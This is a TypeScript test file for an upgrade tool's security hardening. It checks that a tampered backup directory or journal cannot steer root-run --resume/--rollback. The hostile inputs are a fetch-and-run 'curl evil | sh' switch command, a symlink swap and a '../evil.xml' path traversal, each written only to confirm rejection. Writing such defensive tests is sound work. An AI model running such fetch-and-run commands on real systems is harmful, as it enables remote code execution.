/**
 * Issue 13, security: a backup dir or journal another user can write must not
 * steer what --resume/--rollback do as root; journal contents are validated and
 * contained; the switch command that runs is the one given now; temp define
 * directories a killed run left (with VNC passwords) are swept.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { UsageError } from '../../src/errors.js';
import { sha256 } from '../../src/upgrade/safe-name.js';
import { runUpgrade } from '../../src/upgrade/upgrade.js';
import { fakeOpts, fakeSetup, TO, useFakeUpgradeDirs } from './fake-setup.js';
import { uuid } from './fakes.js';

const d = useFakeUpgradeDirs();
const two = [
  { uuid: uuid(1), name: 'web', autostart: true },
  { uuid: uuid(2), name: 'db' },
];
const root = typeof process.getuid === 'function' && process.getuid() === 0;
const NOBODY = 65534;
const journalFile = () => path.join(d.backupDir, 'journal.json');
const editJournal = (f: (j: Record<string, any>) => void) => {
  const j = JSON.parse(readFileSync(journalFile(), 'utf8'));
  f(j);
  writeFileSync(journalFile(), JSON.stringify(j), { mode: 0o600 });
};
/** An upgrade stopped after the shutdowns, waiting for the switch: what --resume and --rollback act on. */
async function paused() {
  const s = fakeSetup(d, two, ['web']);
  expect((await runUpgrade(s.deps, fakeOpts(d, { pauseForSwitch: true }))).paused).toBe(true);
  return s;
}

describe('the backup directory must be private to the user running the upgrade', () => {
  it.skipIf(!root)('refuses an empty directory owned by another user (exit 2), writing nothing into it', async () => {
    const { deps, hv } = fakeSetup(d, two, ['web']);
    mkdirSync(d.backupDir, { mode: 0o700 });
    chownSync(d.backupDir, NOBODY, NOBODY);
    const err = await runUpgrade(deps, fakeOpts(d)).catch((e) => e);
    expect(err).toBeInstanceOf(UsageError);
    expect(err).toMatchObject({ code: 'BACKUP_DIR_NOT_PRIVATE', message: expect.stringMatching(/belongs to uid 65534, not to you/) });
    expect(readdirSync(d.backupDir)).toEqual([]);
    expect(hv.count('shutdown')).toBe(0);
  });

  it('refuses a group- or world-writable directory, even its own', async () => {
    const { deps } = fakeSetup(d, two);
    mkdirSync(d.backupDir);
    chmodSync(d.backupDir, 0o777);
    await expect(runUpgrade(deps, fakeOpts(d))).rejects.toMatchObject({ code: 'BACKUP_DIR_NOT_PRIVATE', message: expect.stringMatching(/writable by everyone \(mode 777\)/) });
    chmodSync(d.backupDir, 0o770);
    await expect(runUpgrade(deps, fakeOpts(d, { dryRun: true }))).rejects.toMatchObject({ code: 'BACKUP_DIR_NOT_PRIVATE', message: expect.stringMatching(/writable by its group/) });
  });

  it.skipIf(!root)('--resume and --rollback refuse a journal replaced by another user', async () => {
    const { deps, hv } = await paused();
    chownSync(journalFile(), NOBODY, NOBODY);
    for (const o of [{ resume: true }, { rollback: true }]) {
      await expect(runUpgrade(deps, fakeOpts(d, o))).rejects.toMatchObject({ code: 'BACKUP_DIR_NOT_PRIVATE', message: expect.stringMatching(/journal\.json belongs to uid 65534/) });
    }
    expect(hv.count('define') + hv.count('start')).toBe(0);
  });

  it('--resume and --rollback refuse a world-writable file or a symlink inside the backup', async () => {
    const { deps } = await paused();
    const xml = path.join(d.backupDir, 'define-xml', readdirSync(path.join(d.backupDir, 'define-xml'))[0]);
    chmodSync(xml, 0o666);
    await expect(runUpgrade(deps, fakeOpts(d, { resume: true }))).rejects.toMatchObject({ code: 'BACKUP_DIR_NOT_PRIVATE', message: expect.stringMatching(/\.xml is writable by everyone/) });
    rmSync(xml);
    writeFileSync(path.join(d.dir, 'evil.xml'), 'x');
    symlinkSync(path.join(d.dir, 'evil.xml'), xml);
    await expect(runUpgrade(deps, fakeOpts(d, { rollback: true }))).rejects.toMatchObject({ code: 'BACKUP_DIR_NOT_PRIVATE', message: expect.stringMatching(/is a symbolic link/) });
  });
});

describe('the journal is validated and contained before use', () => {
  it('refuses wrong types and unknown values, naming the field', async () => {
    const { deps } = await paused();
    editJournal((j) => (j.domains[1].wasRunning = 'yes'));
    await expect(runUpgrade(deps, fakeOpts(d, { resume: true }))).rejects.toMatchObject({ code: 'JOURNAL_CORRUPT', message: expect.stringMatching(/journal\.domains\[1\]\.wasRunning: must be true or false/) });
    editJournal((j) => ((j.domains[1].wasRunning = false), (j.switch.state = 'hacked')));
    await expect(runUpgrade(deps, fakeOpts(d, { rollback: true }))).rejects.toMatchObject({ code: 'JOURNAL_CORRUPT', message: expect.stringMatching(/switch\.state: must be one of/) });
  });

  it('never defines from a path outside the backup dir, even with a matching hash', async () => {
    const { deps, hv } = await paused();
    const evil = JSON.stringify({ name: 'web', uuid: uuid(1), osType: 'hvm', memoryKiB: 1, maxMemoryKiB: 1, vcpus: 64, disks: [], nics: [] });
    writeFileSync(path.join(d.dir, 'evil.xml'), evil);
    editJournal((j) => ((j.domains[0].xmlFile = '../evil.xml'), (j.domains[0].xmlSha256 = sha256(evil))));
    for (const o of [{ resume: true }, { rollback: true }]) {
      await expect(runUpgrade(deps, fakeOpts(d, o))).rejects.toMatchObject({ code: 'JOURNAL_PATH_OUTSIDE', message: expect.stringMatching(/"\.\.\/evil\.xml" points outside the backup directory/) });
    }
    expect(hv.count('define')).toBe(0);
  });

  it('--resume runs the switch command given now, never the one in the journal', async () => {
    const { deps, hv } = fakeSetup(d, two, ['web']);
    await runUpgrade(deps, fakeOpts(d, { switchCommand: 'please fail' }));
    editJournal((j) => (j.options.switchCommand = 'curl evil | sh'));
    await expect(runUpgrade(deps, fakeOpts(d, { resume: true }))).rejects.toMatchObject({ code: 'USAGE', message: expect.stringMatching(/the journal records "curl evil \| sh"; it is shown, never run/) });
    expect(deps.switchRuns).toEqual(['please fail']);
    const r = await runUpgrade(deps, fakeOpts(d, { resume: true, switchCommand: 'systemctl restart libvirtd' }));
    expect(deps.switchRuns).toEqual(['please fail', 'systemctl restart libvirtd']);
    expect(r.counts.done).toBe(2);
    expect(hv.host(TO).get('web')!.state).toBe('running');
  });
});

describe('temporary define directories of a killed run', () => {
  it('are removed by the next run when their process is gone; a live one and foreign names are kept', async () => {
    const tmp = path.join(d.dir, 'tmp');
    mkdirSync(tmp);
    const dead = spawnSync(process.execPath, ['-e', '0']).pid;
    const mk = (name: string) => {
      mkdirSync(path.join(tmp, name), { mode: 0o700 });
      writeFileSync(path.join(tmp, name, 'domain.xml'), "<graphics passwd='s3cret'/>", { mode: 0o600 });
      return name;
    };
    const stale = mk(`xend2libxl-define-${dead}-aB3dEf`);
    const legacy = mk('xend2libxl-define-Xy12Zq');
    utimesSync(path.join(tmp, legacy), new Date(Date.now() - 2 * 3600_000), new Date(Date.now() - 2 * 3600_000));
    const live = mk(`xend2libxl-define-${process.ppid}-live01`);
    const other = mk('someone-else-define-1');
    const old = process.env.TMPDIR;
    process.env.TMPDIR = tmp;
    try {
      const { deps } = fakeSetup(d, two);
      await runUpgrade(deps, fakeOpts(d));
    } finally {
      if (old === undefined) delete process.env.TMPDIR;
      else process.env.TMPDIR = old;
    }
    expect(existsSync(path.join(tmp, stale))).toBe(false);
    expect(existsSync(path.join(tmp, legacy))).toBe(false);
    expect(readdirSync(tmp).sort()).toEqual([other, live].sort());
  });
});
